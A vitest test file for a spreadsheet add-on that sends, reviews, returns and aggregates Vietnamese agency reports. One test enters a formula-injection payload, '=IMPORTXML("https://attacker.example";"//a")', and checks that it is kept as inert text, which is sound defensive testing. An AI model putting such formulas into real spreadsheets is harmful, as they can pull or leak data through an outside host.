import { describe, expect, test } from "vitest";
import { problem, value } from "../answers.ts";
import type { Environment } from "../environment.ts";
import { readSheet } from "../sheet-reader.ts";
import { FINANCE, fillIn, held, PERIOD, TAB, withSheet } from "./built-sheet.ts";

const REVIEWER = "tong-hop-1";

export function sendingTests(environment: Environment): void {
  describe("sending", () => {
    test("with errors nothing leaves the sheet", async () => {
      const { harness } = await withSheet(environment, FINANCE);
      const before = harness.fake.requests.length;
      expect(problem(harness.addon.sendReport(null))).toBe("report_has_errors");
      expect(harness.fake.requests.length).toBe(before);
    });

    test("a lost answer is asked for again under the same key, and nothing is sent twice; then review and pull", async () => {
      const { harness, sheet } = await withSheet(environment, "bao-cao-hoi-nong-dan");
      fillIn(harness, "hoi-nong-dan-tinh");
      sheet.type("II.9.a", "difficulty", '=IMPORTXML("https://attacker.example";"//a")');
      expect(value(harness.addon.home()).sheet?.head?.latest).toBe(0);
      harness.intercept((_, send) => {
        send();
        throw new Error("Timeout");
      });
      expect(problem(harness.addon.sendReport(null))).toBe("offline");
      harness.intercept(null);
      const sent = value(harness.addon.sendReport(null));
      expect([sent.version, sent.late, sent.head.rev]).toEqual([1, false, 1]);
      const puts = harness.fake.requests.filter(({ method }) => method.toLowerCase() === "put");
      expect(new Set(puts.map(({ headers }) => headers["Idempotency-Key"])).size).toBe(1);
      expect(value(harness.addon.home()).sheet?.head).toMatchObject({ state: "sent", latest: 1, rev: 1 });

      const review = await environment.openHarness(REVIEWER);
      const agency = "hoi-nong-dan-tinh";
      const line = value(review.addon.listReports(PERIOD)).reports.find((each) => each.agency.id === agency);
      expect(line).toMatchObject({ expected: true, late: false, head: { state: "sent", latest: 1 } });
      const opened = value(review.addon.openReport(PERIOD, agency));
      expect([opened.tabs, opened.version.version, opened.groups]).toEqual([
        [
          "Xem – Hội Nông dân tỉnh",
          "Xem – Hội Nông dân tỉnh (số liệu)",
          "Xem – Hội Nông dân tỉnh (đánh giá chung)",
        ],
        1,
        [],
      ]);
      expect(readSheet(review, opened.tabs[1] ?? "", "figures").text("pho-bien-cuoc", "coordinated")).toBe(
        "5",
      );
      expect(readSheet(review, opened.tabs[2] ?? "", "assessment").text("shortcomings", "text")).toBe(
        "Không có",
      );
      expect(readSheet(review, opened.tabs[0] ?? "").text("II.9.a", "difficulty")).toBe(
        '=IMPORTXML("https://attacker.example";"//a")',
      );
      const started = value(review.addon.startReview(PERIOD, agency, 1, opened.head.rev));
      expect(problem(review.addon.approveReport(PERIOD, agency, 1, opened.head.rev, ""))).toBe("rev_stale");
      expect(problem(review.addon.returnReport(PERIOD, agency, 1, started.rev, "  ", null))).toBe(
        "reason_required",
      );
      expect(problem(harness.addon.sendReport(null))).toBe("report_locked");
      const approved = value(review.addon.approveReport(PERIOD, agency, 1, started.rev, ""));
      expect([approved.state, approved.counted]).toEqual(["approved", 1]);

      const pulled = value(review.addon.pullProvince(PERIOD));
      expect(pulled.tabs).toEqual([
        "Tổng hợp – Năm 2021",
        "Kết quả theo nhiệm vụ – Năm 2021",
        "Nhiệm vụ theo cơ quan – Năm 2021",
        "Số liệu toàn tỉnh – Năm 2021",
        "Số liệu theo cơ quan – Năm 2021",
        "Khó khăn – kiến nghị – Năm 2021",
        "Chưa báo cáo – Năm 2021",
      ]);
      const rows = Array.from({ length: 200 }, (_, index) =>
        [2, 3, 4, 5, 6].map((column) => held(review, pulled.tabs[5] ?? "", index + 1, column)),
      );
      expect(rows).toContainEqual([
        ["Khó khăn, vướng mắc", null],
        ["Hội Nông dân tỉnh", null],
        ["II.9.a", null],
        ['=IMPORTXML("https://attacker.example";"//a")', null],
        ["Báo cáo lần 1, dòng II.9.a", null],
      ]);

      value(review.addon.pullProvince(PERIOD));
      value(review.addon.openReport(PERIOD, "ubnd-ba-tri"));
      expect(review.fake.spreadsheet.sheets()).toHaveLength(12);
    });

    test("a returned report says why, takes the mended text and is sent as the next version", async () => {
      const harness = await environment.openHarness("bao-cao-ubnd-ba-tri");
      const built = value(harness.addon.buildSheet(PERIOD));
      expect([built.returned?.items, built.returned?.reason]).toEqual([
        [
          {
            table: "Nhiệm vụ",
            duty: "II.3.a.1",
            title: expect.any(String),
            column: "",
            place: { table: "duties", row: "II.3.a.1" },
            reason: "Nêu rõ kết quả và bổ sung văn bản minh chứng (dữ liệu minh họa).",
          },
        ],
        "Đề nghị chỉnh lý mục II.3.a.1 (dữ liệu minh họa).",
      ]);
      const sheet = readSheet(harness, TAB);
      expect(sheet.text("II.3.a.1", "result")).toContain("minh họa");
      const [other] = [await environment.openHarness("bao-cao-ubnd-ba-tri")];
      value(other.addon.buildSheet(PERIOD));
      sheet.type("II.3.a.1", "result", "Đã bổ sung kết quả");
      expect(value(harness.addon.sendReport(null)).version).toBe(2);

      const late = readSheet(other, TAB);
      late.type("II.3.a.1", "result", "Bản của đồng nghiệp");
      expect(problem(other.addon.sendReport(null))).toBe("sheet_behind");
      value(other.addon.home());
      expect(problem(other.addon.sendReport(null))).toBe("sheet_behind");
      expect(value(other.addon.buildSheet(PERIOD)).notes).toEqual([
        "Có 1 ô khác với bản đã gửi gần nhất, xem trang tính “Khác bản đã gửi”.",
      ]);
      expect([1, 2, 3, 4, 5].map((column) => held(other, "Khác bản đã gửi", 4, column)[0])).toEqual([
        "Nhiệm vụ",
        "II.3.a.1",
        "Kết quả thực hiện / lý do không phát sinh",
        "Bản của đồng nghiệp",
        "Đã bổ sung kết quả",
      ]);
      expect(readSheet(other, TAB).text("II.3.a.1", "result")).toBe("Bản của đồng nghiệp");
      expect(value(other.addon.sendReport(null)).version).toBe(3);
    });
  });
}
